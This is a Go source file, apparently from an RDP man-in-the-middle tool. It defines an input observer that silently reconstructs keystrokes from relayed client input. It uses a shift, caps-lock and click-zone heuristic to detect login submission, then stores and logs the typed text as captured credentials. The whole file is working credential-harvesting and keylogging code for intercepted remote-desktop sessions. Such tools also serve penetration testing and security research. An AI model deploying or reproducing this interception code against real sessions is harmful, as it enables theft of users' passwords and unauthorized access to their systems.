package mitm

import (
	"github.com/rs/zerolog"

	"github.com/rcarmo/rdp-mitm/internal/protocol/pdu"
)

// mouseCaptureZoneMin and mouseCaptureZoneMax bound the central screen
// region a mouse-down has to land in before it is treated as a likely
// "submit" click on a login form, same heuristic as the keyboard Return
// key case below.
const (
	mouseCaptureZoneMin = 0.50
	mouseCaptureZoneMax = 0.65
)

// InputObserver watches client-originated fast-path input events flowing
// toward the server leg and reconstructs a best-effort transcript of what
// was typed, without altering a single byte of the relayed stream.
type InputObserver struct {
	state *State
	log   zerolog.Logger
}

// NewInputObserver builds an observer bound to session state, sharing it
// with whatever else in the session needs to read CredentialsCandidate.
func NewInputObserver(state *State, log zerolog.Logger) *InputObserver {
	return &InputObserver{state: state, log: log.With().Str("component", "mitm.input").Logger()}
}

// Observe inspects one client input event. It never returns an error: a
// malformed or unrecognized event is simply not a scancode/mouse event the
// heuristic understands, and is ignored.
func (o *InputObserver) Observe(event *pdu.InputEvent) {
	if scanCode, ok := event.ScanCode(); ok {
		o.onScanCode(scanCode, event.EventFlags&pdu.KBDFlagsRelease != 0, event.EventFlags&pdu.KBDFlagsExtended != 0)
		return
	}

	if flags, x, y, ok := event.MousePosition(); ok {
		o.onMouse(int(x), int(y), flags)
	}
}

func (o *InputObserver) onMouse(mouseX, mouseY int, pointerFlags uint16) {
	if pointerFlags&pdu.PTRFlagsDown == 0 {
		return
	}
	if o.state.WindowSize.Width == 0 || o.state.WindowSize.Height == 0 {
		return
	}

	percentX := float64(mouseX) / float64(o.state.WindowSize.Width)
	percentY := float64(mouseY) / float64(o.state.WindowSize.Height)

	if percentX > mouseCaptureZoneMin && percentX < mouseCaptureZoneMax &&
		percentY > mouseCaptureZoneMin && percentY < mouseCaptureZoneMax {
		o.loginAttempt()
	}
}

func (o *InputObserver) loginAttempt() {
	if o.state.LoggedIn || o.state.inputBuffer == "" {
		return
	}

	o.state.CredentialsCandidate = o.state.inputBuffer
	o.state.inputBuffer = ""

	o.log.Info().Str("credentials_attempt", o.state.CredentialsCandidate).Msg("credentials attempt from heuristic")
}

func (o *InputObserver) onScanCode(scanCode uint8, isReleased, isExtended bool) {
	switch {
	case scanCode == scLShift || scanCode == scRShift:
		o.state.ShiftPressed = !isReleased
	case scanCode == scCapsLock && !isReleased:
		o.state.CapsLockOn = !o.state.CapsLockOn
	case scanCode == scLControl:
		o.state.CtrlPressed = !isReleased
	case scanCode == scBackspace && !isReleased:
		o.state.inputBuffer += `<\b>`
	case scanCode == scTab && !isReleased:
		o.state.inputBuffer += `<\t>`
	case scanCode == scKeyA && o.state.CtrlPressed && !isExtended && !isReleased:
		o.state.inputBuffer += "<ctrl-a>"
	case scanCode == scSpace && !isReleased:
		o.state.inputBuffer += " "
	case scanCode == scReturn && !isExtended && !isReleased:
		o.loginAttempt()
	default:
		if name := keyName(scanCode, o.state.ShiftPressed, o.state.CapsLockOn); !isReleased && len(name) == 1 {
			o.state.inputBuffer += name
		}
	}
}
